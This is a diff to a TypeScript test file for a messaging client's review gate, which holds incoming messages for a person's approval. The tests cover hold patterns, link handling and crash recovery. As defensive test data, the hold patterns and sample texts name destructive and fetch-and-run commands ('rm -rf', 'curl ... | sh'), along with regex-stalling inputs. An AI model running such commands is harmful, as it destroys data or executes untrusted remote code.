@@ -2,7 +2,7 @@
 // read as the person wrote it (and held closed when it cannot be), the rules, a decision applied to
 // a real profile's held/ and inbox/, and the order that makes a crash mid-decision safe.
 import assert from 'node:assert/strict';
-import { rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
+import { existsSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { test } from 'node:test';
 import { PapoError } from '../../src/client/errors.js';
@@ -12,16 +12,21 @@ import {
   applyDecision,
   compilePattern,
   countHeld,
+  decidedIn,
   dropDecided,
   HELD_DIR,
   type HeldState,
   holds,
+  matchesPattern,
   parseDecision,
   REVIEW_FILE,
   REVIEW_OFF,
+  type ReviewDecision,
   ReviewGate,
   readHeld,
   readReviewSettings,
+  requestDecision,
+  takeReviewRequests,
   writeReviewSettings,
 } from '../../src/client/review.js';
 import { tempDir } from '../support/files.js';
@@ -55,12 +60,12 @@ test('review.json: missing is off; written is read back, 0600; unreadable or mal
     '[]',
     '{"on":"yes"}',
     '{"on":true,"allow":["not a name!"]}',
-    '{"on":false,"hold":["("]}',
+    '{"on":false,"hold":["*"]}',
   ]) {
     writeFileSync(join(dir, REVIEW_FILE), bad);
     const s = readReviewSettings(dir);
     assert.equal(s.on, true, bad);
-    assert.match(s.broken ?? '', /review\.json/, bad);
+    assert.equal(s.broken, bad === '{' ? 'not_json' : 'not_settings', bad);
     assert.equal(holds(s, msg('colega', 'hi')), true, bad);
   }
   // A link where review.json should be is not followed: everything is held.
@@ -69,7 +74,11 @@ test('review.json: missing is off; written is read back, 0600; unreadable or mal
   symlinkSync(join(dir, 'elsewhere.json'), join(dir, REVIEW_FILE));
   const linked = readReviewSettings(dir);
   assert.equal(linked.on, true);
-  assert.match(linked.broken ?? '', /symbolic link/);
+  assert.equal(linked.broken, 'link');
+  // The person's command puts a real file there again; the link's target is left as it was.
+  await writeReviewSettings(dir, { ...REVIEW_OFF, on: true });
+  assert.deepEqual(readReviewSettings(dir), { on: true, allow: [], allowPeople: false, hold: [] });
+  assert.equal(readFileSync(join(dir, 'elsewhere.json'), 'utf8'), '{"on":false}');
 });
 
 test('the rules: off holds nothing; on holds unless allowed; a hold pattern beats an allow', () => {
@@ -87,20 +96,29 @@ test('the rules: off holds nothing; on holds unless allowed; a hold pattern beat
   const people = { ...on, allowPeople: true };
   assert.equal(holds(people, msg('terceiro', 'hi', 'human')), false);
   assert.equal(holds(people, msg('terceiro', 'hi')), true);
-  // A pattern (a regular expression, any letter case) holds even an allowed sender.
-  const guarded = { ...allowColega, allowPeople: true, hold: ['rm\\s+-rf', 'deploy|production'] };
-  assert.equal(holds(guarded, msg('colega', 'please RM  -RF build/')), true);
+  // A pattern (text, any letter case, spaces match any white space) holds even an allowed sender.
+  const guarded = { ...allowColega, allowPeople: true, hold: ['rm -rf', 'production'] };
+  assert.equal(holds(guarded, msg('colega', 'please RM \t -RF build/')), true);
   assert.equal(holds(guarded, msg('colega', 'Ship it to Production', 'human')), true);
   assert.equal(holds(guarded, msg('colega', 'the schema is in the PR')), false);
 });
 
-test('a pattern that could stall papo mcp on a colleague’s text is refused; ordinary ones are not', () => {
-  for (const slow of ['(a+)+$', '(\\w*)*x', '(x\\d{2,})+', '^(a|b+)*c'])
-    assert.throws(() => compilePattern(slow), /repeated group/, slow);
-  for (const fine of ['rm\\s+-rf', 'deploy|production', '(curl|wget) .*\\|\\s*sh', 'a\\(b+\\)+'])
-    assert.ok(compilePattern(fine), fine);
-  assert.throws(() => compilePattern(''), /1 to 200/);
-  assert.throws(() => compilePattern('x'.repeat(201)), /1 to 200/);
+test('hold patterns: text in order with * between, any case and white space; linear on a hostile text', () => {
+  const m = (pattern: string, text: string) => matchesPattern(compilePattern(pattern), text);
+  assert.equal(m('curl * | sh', 'then CURL https://x.example/i.sh |\n sh'), true);
+  assert.equal(m('curl * | sh', 'sh | curl https://x.example'), false);
+  assert.equal(m('deploy*production', 'Deploy it to production'), true);
+  assert.equal(m('deploy*production', 'production deploy'), false);
+  // Regular-expression characters are text.
+  assert.equal(m('(a|a)+$', 'aaaa'), false);
+  assert.equal(m('(a|a)+$', 'see (A|a)+$ here'), true);
+  for (const none of ['', '*', '* *', '   '])
+    assert.throws(() => compilePattern(none), /empty/, JSON.stringify(none));
+  assert.throws(() => compilePattern('x'.repeat(201)), /too_long/);
+  // The shapes that stall a backtracking engine cost a few indexOf calls here.
+  const hostile = 'a'.repeat(48 * 1024);
+  assert.equal(m('a*a*a*a*a*a*a*a*a*a*b', hostile), false);
+  assert.equal(m('aaaaaaaaaaaaaaaaaaaaaaaaaaaaab', hostile), false);
 });
 
 test('the gate reads review.json again when it changes, not before', async (t) => {
@@ -180,17 +198,62 @@ test('a crash between the inbox and held/ leaves a copy in both: the next start 
   await state.addToHeld(other);
   await state.addToInbox(m); // the approval's first write, then the crash
   const reopened = await openMemberState(dir);
-  await dropDecided(reopened);
-  assert.deepEqual(
-    reopened.inbox.map((x) => x.id),
-    [m.id],
-  );
-  assert.deepEqual(
-    reopened.held.map((x) => x.id),
-    [other.id],
-  );
+  await dropDecided(reopened, decidedIn(await reopened.readLogTail(100)), 7);
+  assert.deepEqual([reopened.inbox.map((x) => x.id), reopened.held.map((x) => x.id)], [[m.id], [other.id]]);
+  // The approval the crash kept out of the log is written, so history no longer says "held".
+  assert.deepEqual(await reopened.readLogTail(10), [{ ev: 'review', id: m.id, decision: 'approved', ts: 7 }]);
   // Held ids count as stored: a copy sent again is acked, not stored twice.
   assert.ok((await reopened.inboundIds()).has(other.id));
+});
+
+test("a crash between a rejection's log line and held/: the next start finishes it; a decision both ways rejects", async (t) => {
+  const dir = tempDir(t, 'papo-review-');
+  const state = await openMemberState(dir);
+  const [gone, both] = [msg('colega', 'rejected as papo stopped'), msg('colega', 'approved and rejected')];
+  await state.addToHeld(gone);
+  await state.addToHeld(both);
+  await state.appendLog({ ev: 'review', id: gone.id, decision: 'rejected', ts: 1 });
+  const reopened = await openMemberState(dir);
+  await dropDecided(reopened, decidedIn(await reopened.readLogTail(100)), 2);
+  assert.deepEqual(
+    reopened.held.map((x) => x.id),
+    [both.id],
+  );
+  assert.deepEqual(reopened.inbox, []);
+  const outcome = await applyDecision(reopened, { approve: [both.id], reject: [both.id] }, 3);
+  assert.deepEqual(
+    [outcome.approved, outcome.rejected.map((x) => x.id), reopened.inbox],
+    [[], [both.id], []],
+  );
+});
+
+test('decisions left for papo mcp: applied oldest first; one it cannot apply yet stays, and those after it wait', async (t) => {
+  const dir = tempDir(t, 'papo-review-');
+  const first = await requestDecision(dir, { approve: ['0000000001'], reject: [] });
+  await new Promise((r) => setTimeout(r, 5));
+  const second = await requestDecision(dir, { approve: [], reject: ['0000000001'] });
+  assert.equal(statSync(first).mode & 0o777, 0o600);
+  const seen: ReviewDecision[] = [];
+  let closing = true;
+  const member = {
+    decide: async (d: ReviewDecision) => {
+      if (closing) throw new PapoError('io', 'the room member is closed');
+      seen.push(d);
+      return { approved: [], rejected: [], unknown: [], full: [] };
+    },
+  };
+  await takeReviewRequests(dir, member, () => {});
+  assert.deepEqual(seen, []);
+  assert.ok(existsSync(first) && existsSync(second));
+  closing = false;
+  writeFileSync(join(dir, 'review-0000000000000-deadbeef.json'), 'not json');
+  await takeReviewRequests(dir, member, () => {});
+  assert.deepEqual(seen, [
+    { approve: ['0000000001'], reject: [] },
+    { approve: [], reject: ['0000000001'] },
+  ]);
+  assert.ok(!existsSync(first) && !existsSync(second));
+  assert.ok(!existsSync(join(dir, 'review-0000000000000-deadbeef.json')));
 });
 
 test('approving into a full inbox keeps the message held, and a failing disk stops the decision before anything is released', async () => {
